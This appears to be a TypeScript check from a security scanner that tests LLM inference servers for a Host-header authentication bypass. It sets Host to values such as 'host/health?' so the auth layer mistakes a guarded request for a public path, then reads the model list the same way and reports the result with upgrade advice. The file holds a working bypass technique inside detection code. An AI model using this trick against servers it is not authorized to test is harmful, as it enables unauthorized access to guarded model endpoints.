// auth.host-header — a Host header carrying a public path makes the auth layer treat a guarded request as public.
// Starlette rebuilds `request.url` as `scheme://{Host}{path}?{query}` and splits it again, so an auth middleware that reads
// `request.url.path` sees `/health` when the Host is `x/health?`, while the router still dispatches on the real path
// (vLLM 0.3–0.21 CVE-2026-48746, LiteLLM before 1.84 CVE-2026-49468, suspected in SGLang).

import {
  type GuardedBaseline,
  line,
  modelReached,
  noBaseline,
  proveVariant,
  refusedBaselines,
  sendVariant,
  type VariantProof,
} from '../../probes/differential.js';
import { profileById } from '../../profiles/index.js';
import { isRefused } from '../../surface/answer.js';
import { describeServer } from '../../surface/inference.js';
import { isObject, parseJson } from '../../surface/json.js';
import type { Exchange, Finding, ProductId } from '../../types.js';
import { quote } from '../../untrusted.js';
import { type CheckContext, defineCheck } from '../define.js';
import family from './index.js';

/** Public paths the affected middlewares let through, most common first. */
const PUBLIC_PATHS = ['/health', '/ping', '/metrics', '/docs'];

const ADVISORY: Partial<Record<ProductId, string>> = {
  vllm: 'vLLM before 0.22 reads the path from a URL built with the Host header (CVE-2026-48746): upgrade to 0.22 or later.',
  litellm: 'LiteLLM before 1.84 checks public routes against a Host-built path (CVE-2026-49468): upgrade to 1.84.0 or later.',
  sglang: "SGLang builds the auth path from request.url.path, the same construction as vLLM's CVE-2026-48746.",
};

/**
 * The trick got past the auth layer, but the handler refused our body for want of a model name we could not learn while
 * the model list was guarded (a LiteLLM proxy): read the list through the same Host trick and send the request again with
 * the model, for model output.
 */
async function withModelFromList(ctx: CheckContext, base: GuardedBaseline, hostValue: string, first: Exchange): Promise<VariantProof | null> {
  const body = parseJson(base.request.body);
  if (!isObject(body) || 'model' in body || !('messages' in body || 'prompt' in body)) return null;
  if (!/\bmodel\b/i.test(first.response?.body ?? '')) return null;
  const list = await ctx.send({
    method: 'GET',
    path: '/v1/models',
    host: hostValue,
    purpose: `Host-header path confusion: GET /v1/models with Host: ${hostValue} (the model the handler asked for)`,
  });
  const data = (parseJson(list.response?.body) as { data?: { id?: unknown }[] } | null)?.data;
  const model = list.response?.status === 200 && Array.isArray(data) ? data.map((m) => m?.id).find((id): id is string => typeof id === 'string') : undefined;
  if (!model) return null;
  const withModel: GuardedBaseline = { ...base, request: { ...base.request, body: JSON.stringify({ model, ...body }) } };
  const retry = await sendVariant(ctx, withModel, {
    host: hostValue,
    purpose: `Host-header path confusion: Host: ${hostValue} on ${base.route.path} with model ${quote(model, 60)}`,
  });
  const proof = modelReached(retry, ctx.options.prompt);
  if (!proof) return null;
  // The baseline again with the same body, so that the two requests still differ by the Host header alone.
  const refused = await sendVariant(ctx, withModel, {
    purpose: `bypass baseline: ${base.route.method} ${base.route.path} with model ${quote(model, 60)}, without credentials (must be refused)`,
  });
  return isRefused(refused) ? { ex: retry, proof, baseline: refused, steps: [first, list] } : null;
}

export default defineCheck(family, {
  id: 'auth-host-header',
  depth: 'standard',
  async run(ctx) {
    const fp = ctx.surface.fingerprint;
    const [base] = await refusedBaselines(ctx);
    if (!base) {
      const why = await noBaseline(ctx);
      ctx.mark('auth.host-header', why.status, why.reason, why.defersTo);
      return [];
    }
    // Not ASGI: the auth layer reads the request line's path, never a URL rebuilt from Host (the rule passes by design).
    if (fp.product !== 'unknown' && fp.confidence >= 0.5 && profileById(fp.product).auth.pathFromHostHeader === false) return [];
    const host = new URL(ctx.target.origin).host;
    // Sequential: the first public path that works is the proof; the others would only repeat it.
    for (const pub of PUBLIC_PATHS) {
      const hostValue = `${host}${pub}?`;
      const v = await proveVariant(ctx, base, { host: hostValue, purpose: `Host-header path confusion: Host: ${hostValue} on ${base.route.path}` }, (first) =>
        withModelFromList(ctx, base, hostValue, first),
      );
      if (!v) continue;
      const { family, server } = describeServer(ctx.surface);
      const advisory = fp.product !== 'unknown' ? ADVISORY[fp.product] : undefined;
      const finding: Finding = ctx.finding({
        rule: 'auth.host-header',
        confidence: v.proof.confidence,
        description:
          `Authentication bypass through the Host header on the ${family}inference endpoint${server}: ${line(v.baseline)} without credentials, ` +
          `but the same request with Host: ${hostValue} ${v.proof.summary}. The auth layer read the path from ` +
          `a URL built with the Host header and took the request for ${pub}.`,
        exchange: v.ex,
        baseline: v.baseline,
        ...(v.steps.length ? { extra: v.steps } : {}),
        endpoint: { method: base.route.method, url: ctx.target.origin + base.route.path.split('?')[0] },
        notes: [`public path smuggled through Host: ${pub}`, ...(advisory ? [advisory] : [])],
      });
      return [finding];
    }
    return [];
  },
});
